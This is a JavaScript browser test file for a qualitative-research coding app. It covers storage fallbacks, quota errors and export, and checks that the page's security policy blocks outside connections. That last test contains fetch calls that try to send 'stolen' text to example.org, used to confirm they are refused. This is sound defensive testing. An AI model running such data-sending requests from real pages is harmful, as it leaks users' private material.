// Where the browser stores nothing, little, or no more: it is said, the next best is used, and nothing is lost that is
// in memory. And nothing leaves, whatever the page tries.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import test from 'node:test';
import { axe, journey, screenshot } from './lib/emic.mjs';
import { begin, bringIn, coded, drag, exportOpen, listen, pick, saved, text } from './lib/study.mjs';
import { said } from './lib/transcript.mjs';

const words = said.join('\n\n');

async function code(page, passage, name) {
  await (await drag(page, passage)).getByRole('button', { name: 'Code…' }).click();
  await pick(page, name);
}

for (const [how, block] of [
  ['throws', () => {
    IDBFactory.prototype.open = () => { throw new DOMException('not allowed here', 'SecurityError'); };
  }],
  ['fails', () => {
    IDBFactory.prototype.open = () => {
      const request = new EventTarget();
      Object.assign(request, { error: new DOMException('not allowed here', 'InvalidStateError'), result: null });
      setTimeout(() => {
        const event = new Event('error');
        request.dispatchEvent(event);
        request.onerror?.(event);
      });
      return request;
    };
  }],
]) {
  journey(test, `where opening the database ${how}, the small storage keeps the work, says so, and it is there after a reload and when the database is back`, {}, async (emic) => {
    await emic.context.addInitScript(block);
    await emic.open();
    await emic.page.getByText('Only about 5 MB can be kept').waitFor();
    await begin(emic.page, { title: 'Small' });
    await bringIn(emic.page, { 'nadia.txt': words });
    await code(emic.page, 'a house is only stones', 'House');
    await code(emic.page, 'Everything was straight', 'Town');
    await saved(emic.page);
    await emic.page.getByRole('button', { name: 'Saved', exact: true }).click();
    await emic.page.getByText('small storage (localStorage, about 5 MB)').waitFor();
    await axe(emic.page);
    await emic.page.keyboard.press('Escape');
    const before = await exportOpen(emic.page);
    assert.equal(coded(before).length, 2);
    await emic.page.reload();
    await text(emic.page).waitFor();
    await saved(emic.page);
    assert.ok(before.equals(await exportOpen(emic.page)), 'the same bytes after a reload');
    await emic.page.getByRole('button', { name: /^Undo: code “Town” applied/ }).click();
    await emic.page.getByText('1 document · 1 quotation', { exact: true }).waitFor();
    await saved(emic.page);
    // When the database can be opened another time, the work is not out of sight.
    await emic.restart();
    await emic.page.getByRole('list', { name: 'Projects in this browser' }).getByRole('link', { name: 'Small', exact: true }).click();
    await text(emic.page).waitFor();
    await emic.page.getByText('1 document · 1 quotation', { exact: true }).waitFor();
  });
}

journey(test, 'where nothing is allowed one works in memory, is warned, and can export all of it', {}, async (emic) => {
  const { page } = emic;
  await emic.context.addInitScript(() => {
    IDBFactory.prototype.open = () => { throw new DOMException('not allowed here', 'SecurityError'); };
    Object.defineProperty(window, 'localStorage', { get() { throw new DOMException('not allowed here', 'SecurityError'); } });
  });
  await emic.open();
  await page.getByText('Nothing can be kept in this browser').waitFor();
  await begin(page, { title: 'In memory' });
  await page.getByText('Nothing can be kept in this browser').waitFor();
  await bringIn(page, { 'nadia.txt': words });
  await code(page, 'a house is only stones', 'House');
  await page.getByRole('button', { name: 'Not kept', exact: true }).waitFor();
  assert.equal(await page.getByRole('button', { name: 'Saved', exact: true }).count(), 0, 'nothing is called saved');
  await axe(page);
  await screenshot(page, 'in-memory');
  const project = await exportOpen(page);
  assert.deepEqual(coded(project), [['a house is only stones', ['House']]]);
  assert.equal(JSON.parse(project).documents[0].text, words);
  // Between screens and projects it stays.
  await page.getByRole('link', { name: /All projects/ }).click();
  await page.getByRole('list', { name: 'Projects in this browser' }).getByRole('link', { name: 'In memory', exact: true }).click();
  await page.getByText('1 document · 1 quotation', { exact: true }).waitFor();
});

for (const after of [0, 3]) {
  journey(test, `when the disk is full at write ${after + 1}, nothing is called saved, all can be exported, and it is written once there is room`, {}, async (emic) => {
    const { page } = emic;
    await emic.context.addInitScript(() => {
      window.room = Infinity;
      for (const name of ['put', 'add']) {
        const real = IDBObjectStore.prototype[name];
        IDBObjectStore.prototype[name] = function refuse(...given) {
          window.room -= 1;
          if (window.room < 0) throw new DOMException('no room', 'QuotaExceededError');
          return real.apply(this, given);
        };
      }
    });
    await emic.open();
    await begin(page, { title: 'Full' });
    await bringIn(page, { 'nadia.txt': words });
    await code(page, 'a house is only stones', 'House');
    await saved(page);
    await page.evaluate((room) => { window.room = room; }, after);
    const passages = ['Everything was straight', 'Signing was what divided us', 'the fish were in the classrooms', 'by noon we were in the new town', 'They drew lots'];
    for (const [n, passage] of passages.entries()) await code(page, passage, `Code ${n + 1}`);
    const banner = page.getByRole('alert').filter({ hasText: 'Not saved: there is no space left' });
    await banner.waitFor();
    assert.equal(await page.getByRole('button', { name: 'Saved', exact: true }).count(), 0);
    // One can work on, and take back.
    await code(page, 'behind the clock', 'Clock');
    await page.keyboard.press('Control+z');
    await page.getByText('1 document · 6 quotations', { exact: true }).waitFor();
    await axe(page);
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      banner.getByRole('button', { name: 'Export now' }).click(),
    ]);
    assert.equal(coded(readFileSync(await download.path())).length, 6, 'all that is in memory is in the file');
    await page.evaluate(() => { window.room = Infinity; });
    await banner.getByRole('button', { name: 'Try again' }).click();
    await saved(page);
    await banner.waitFor({ state: 'detached' });
    const done = coded(await exportOpen(page));
    await emic.kill();
    await emic.page.getByRole('link', { name: 'Full', exact: true }).click();
    await text(emic.page).waitFor();
    assert.equal(await emic.page.getByText('had to be recovered').count(), 0);
    assert.deepEqual(coded(await exportOpen(emic.page)), done);
    // What could be redone still can.
    await emic.page.getByRole('button', { name: /^Redo: code “Clock” applied/ }).click();
    await emic.page.getByText('1 document · 7 quotations', { exact: true }).waitFor();
    await saved(emic.page);
  });
}

journey(test, 'with a project open no connection can be made, and none was', {}, async ({ page, origin, seen }) => {
  await begin(page, { title: 'Closed' });
  await bringIn(page, { 'nadia.txt': words });
  const { hears } = await listen(page);
  await code(page, 'a house is only stones', 'House');
  await hears('House applied to 5 words');
  await saved(page);
  assert.deepEqual(seen.requests.filter((url) => !url.startsWith(`${origin}/`) && !url.startsWith('blob:')), []);
  const asked = seen.requests.length;
  seen.allow(/Content.Security.Policy|violates/i);
  const tried = await page.evaluate(async (own) => {
    const outcome = async (attempt) => { try { await attempt(); return 'went through'; } catch { return 'refused'; } };
    const violated = [];
    document.addEventListener('securitypolicyviolation', (event) => violated.push(event.effectiveDirective));
    const result = [
      await outcome(() => fetch('https://example.org/?words=stolen', { mode: 'no-cors' })),
      await outcome(() => fetch('https://example.org/', { method: 'POST', body: 'stolen', mode: 'no-cors', keepalive: true })),
      await outcome(() => fetch(`${own}/index.html`)),
    ];
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { result, violated };
  }, origin);
  assert.deepEqual(tried.result, ['refused', 'refused', 'refused']);
  assert.ok(tried.violated.length >= 3 && tried.violated.every((directive) => directive === 'connect-src'), `${tried.violated}`);
  assert.equal(seen.requests.length, asked, 'not even asked for');
});
